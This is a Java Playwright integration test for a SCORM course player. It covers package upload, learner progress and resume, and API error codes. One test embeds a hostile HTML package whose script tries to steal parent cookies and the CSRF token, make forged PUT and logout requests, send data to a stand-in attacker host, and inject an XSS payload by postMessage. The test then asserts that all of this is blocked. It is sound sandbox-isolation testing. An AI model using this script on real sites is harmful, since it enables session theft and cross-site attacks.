package id.netral.journey;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.FrameLocator;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import id.netral.TestDatabase;
import id.netral.scorm.TestPackage;
import id.netral.security.Role;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/** A trainer brings a package of another maker in; learners do the module with it; a hostile one gets nowhere. */
@JourneyTest
class ScormIT {

    private static final String TRAINER = "198001012005011001";
    private static final String LEARNER = "199001012015012002";

    /** Tries what it must not be able to, and writes down what became of it. */
    private static final String HOSTILE = """
            <!DOCTYPE html>
            <html lang="id"><head><meta charset="utf-8"><title>Jahat</title></head><body><h1>Jahat</h1><ul id="hasil"></ul>
            <script>
            const list = document.getElementById('hasil');
            const note = (what, outcome) => {
              const item = document.createElement('li');
              item.textContent = what + ': ' + outcome;
              list.append(item);
            };
            const attempt = (what, work) => {
              try { const got = work(); note(what, got === undefined ? 'ditahan' : 'LOLOS ' + got); }
              catch (e) { note(what, 'ditahan'); }
            };
            attempt('kuki induk', () => window.top.document.cookie);
            attempt('isi induk', () => window.top.document.body.innerHTML);
            attempt('kuki sendiri', () => document.cookie + '|');
            attempt('simpanan', () => window.top.localStorage.length);
            attempt('alamat induk', () => window.top.location.href);
            attempt('jendela baru', () => window.open('/profil') || undefined);
            attempt('pindah induk', () => { window.top.location = '/profil'; return undefined; });
            const ask = async (what, url, options) => {
              try {
                const response = await fetch(url, options);
                note(what, 'LOLOS ' + response.type + response.status);
              } catch (e) { note(what, 'ditahan'); }
            };
            const origin = new URL(document.querySelector('script').src).origin;
            const form = document.createElement('form');
            form.method = 'post'; form.action = origin + '/keluar'; form.target = '_top';
            document.body.append(form);
            (async () => {
              await ask('token csrf', origin + '/api/csrf', { credentials: 'include' });
              await ask('tanpa cors', origin + '/api/csrf', { credentials: 'include', mode: 'no-cors' });
              await ask('simpan hasil', origin + '/api/scorm/1', { method: 'PUT', body: '{}', credentials: 'include' });
              await ask('ke luar', 'https://jahat.example/?data=1', { mode: 'no-cors' });
              const beacon = new Image();
              beacon.onload = () => note('gambar', 'LOLOS');
              beacon.onerror = () => note('gambar', 'ditahan');
              beacon.src = origin + '/icons/netral.svg';
              try { form.submit(); } catch (e) { /* held back */ }
              for (const target of [window.top, window.parent]) {
                target.postMessage({ mark: 'netral-scorm', kind: 'finish', seq: 'x', values: {} }, '*');
                target.postMessage({ mark: 'netral-scorm', kind: '<img src=x onerror=alert(1)>', seq: 1 }, '*');
              }
              setTimeout(() => note('akhir', 'selesai'), 500);
            })();
            </script></body></html>
            """;

    @LocalServerPort
    int port;

    @Autowired
    TestDatabase database;

    @Autowired
    Cast cast;

    @Autowired
    JdbcClient jdbc;

    @TempDir
    Path folder;

    @BeforeEach
    void people() {
        remove();
        database.reset();
        cast.person(TRAINER, "Tri Contoh", "Dinas Teladan", Role.PELATIH);
        cast.person(LEARNER, "Lia Contoh", "Dinas Teladan");
    }

    @AfterEach
    void remove() {
        jdbc.sql("DELETE FROM scorm_attempt").update();
        jdbc.sql("DELETE FROM scorm_package").update();
    }

    @Test
    void aPackageIsTakenInBegunResumedAndPassed() {
        bringIn(TestPackage.lesson());
        try (var learner = new Visitor(Browsers.phone(), port)) {
            learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
            learner.link("Paket uji").click();
            var part = part(learner);
            assertThat(part.locator("#masuk")).hasText("ab-initio");
            assertThat(part.locator("h1")).hasCSS("color", "rgb(11, 74, 72)");
            part.locator("#lanjut").click();
            part.locator("#lanjut").click();
            learner.sees("Sedang berjalan");
            learner.sees("Tersimpan.");
            Look.at(learner, "scorm-phone");

            learner.page().reload();
            assertThat(part.locator("#tempat")).hasText("3");
            assertThat(part.locator("#catatan")).hasText("halaman=3");
            part.locator("#tunda").click();
            learner.sees("Tersimpan.");
            learner.page().reload();
            assertThat(part.locator("#masuk")).hasText("resume");
            assertThat(part.locator("#tempat")).hasText("3");

            part.locator("#selesai").click();
            learner.sees("Lulus");
            learner.sees("Nilai 87,5");
            learner.sees("Hasilnya sudah masuk riwayat Anda");
            learner.open("riwayat");
            learner.sees("87,5");
        }
        assertThat(jdbc.sql("SELECT evidence FROM completion")
                        .query(String.class)
                        .list())
                .containsExactly("SCORM");
    }

    @Test
    void aHostilePackageReachesNothingAroundIt() {
        bringIn(TestPackage.lesson().with("isi/index.html", HOSTILE));
        try (var learner = new Visitor(Browsers.desktop(), port)) {
            learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
            learner.link("Paket uji").click();
            var part = part(learner);
            assertThat(part.locator("#hasil")).containsText("akhir: selesai");
            assertThat(part.locator("#hasil")).containsText("gambar");
            assertThat(part.locator("#hasil li").allTextContents())
                    .as("what a hostile package achieved")
                    .hasSizeGreaterThan(12)
                    .noneMatch(line -> line.contains("LOLOS"));
            assertThat(learner.page().url()).contains("/paket/");
            assertThat(learner.page().context().pages()).hasSize(1);
            Look.at(learner.page(), "scorm-hostile");
            learner.open("profil");
            learner.sees("Lia Contoh");
        }
        assertThat(jdbc.sql("SELECT COUNT(*) FROM completion")
                        .query(Integer.class)
                        .single())
                .isZero();
    }

    @Test
    void theKeyAloneOpensAPageThatHasNoOrigin() {
        bringIn(TestPackage.lesson()
                .with(
                        "isi/index.html",
                        "<!DOCTYPE html><html><head></head><body>"
                                + "<p id='asal'></p><script>asal.textContent = self.origin</script></body></html>"));
        try (var learner = new Visitor(Browsers.desktop(), port)) {
            learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
            learner.link("Paket uji").click();
            var part = part(learner);
            assertThat(part.locator("#asal")).hasText("null");
            var address = learner.page().frames().getLast().url();
            learner.page().navigate(address);
            assertThat(learner.page().locator("#asal")).hasText("null");
        }
    }

    @Test
    void aPackageHearsTheErrorsOfTheStandard() {
        bringIn(TestPackage.lesson());
        try (var learner = new Visitor(Browsers.desktop(), port)) {
            learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
            learner.link("Paket uji").click();
            assertThat(part(learner).locator("#masuk")).hasText("ab-initio");
            var frame = learner.page().frames().getLast();
            var heard = frame.evaluate("""
                    () => {
                      const api = window.API;
                      const heard = [];
                      const hear = (result) => heard.push(result + ' ' + api.LMSGetLastError());
                      hear(api.LMSInitialize(''));
                      hear(api.LMSGetValue('cmi.core._children').includes('lesson_status'));
                      hear(api.LMSGetValue('cmi.core.exit'));
                      hear(api.LMSSetValue('cmi.core.student_id', 'x'));
                      hear(api.LMSSetValue('cmi.core._children', 'x'));
                      hear(api.LMSSetValue('cmi.core.lesson_status', 'menang'));
                      hear(api.LMSSetValue('cmi.core.score.raw', '101'));
                      hear(api.LMSGetValue('cmi.tidak.ada'));
                      hear(api.LMSGetValue('cmi.interactions._count'));
                      hear(api.LMSSetValue('cmi.interactions.0.id', 'soal-1'));
                      hear(api.LMSGetValue('cmi.interactions._count'));
                      hear(api.LMSSetValue('cmi.interactions.5.id', 'soal-6'));
                      hear(api.LMSFinish(''));
                      hear(api.LMSGetValue('cmi.core.lesson_status'));
                      heard.push(api.LMSGetErrorString('301'));
                      return heard;
                    }""");
            assertThat(heard)
                    .isEqualTo(List.of(
                            "false 101",
                            "true 0",
                            " 404",
                            "false 403",
                            "false 402",
                            "false 405",
                            "false 405",
                            " 401",
                            "0 0",
                            "true 0",
                            "1 0",
                            "false 201",
                            "true 0",
                            " 301",
                            "Not initialized"));
        }
    }

    private void bringIn(TestPackage files) {
        try (var trainer = new Visitor(Browsers.desktop(), port)) {
            trainer.signIn(TRAINER, Cast.PASSWORD).open("paket-scorm");
            var module = trainer.page().getByLabel("Modul").first();
            module.fill("Aurat");
            trainer.page().locator("vaadin-combo-box-item").first().click();
            trainer.settle();
            var file = trainer.page().locator("input[type=file]").first();
            file.setInputFiles(files.in(folder));
            trainer.sees("Paket tersimpan");
            assertThat(trainer.page().getByText("Dapat dibuka")).isVisible();
            Look.at(trainer, "scorm-packages");
        }
    }

    private static FrameLocator part(Visitor learner) {
        Page page = learner.page();
        Locator frame = page.locator("scorm-player iframe");
        assertThat(frame).isVisible();
        return page.frameLocator("scorm-player iframe");
    }
}
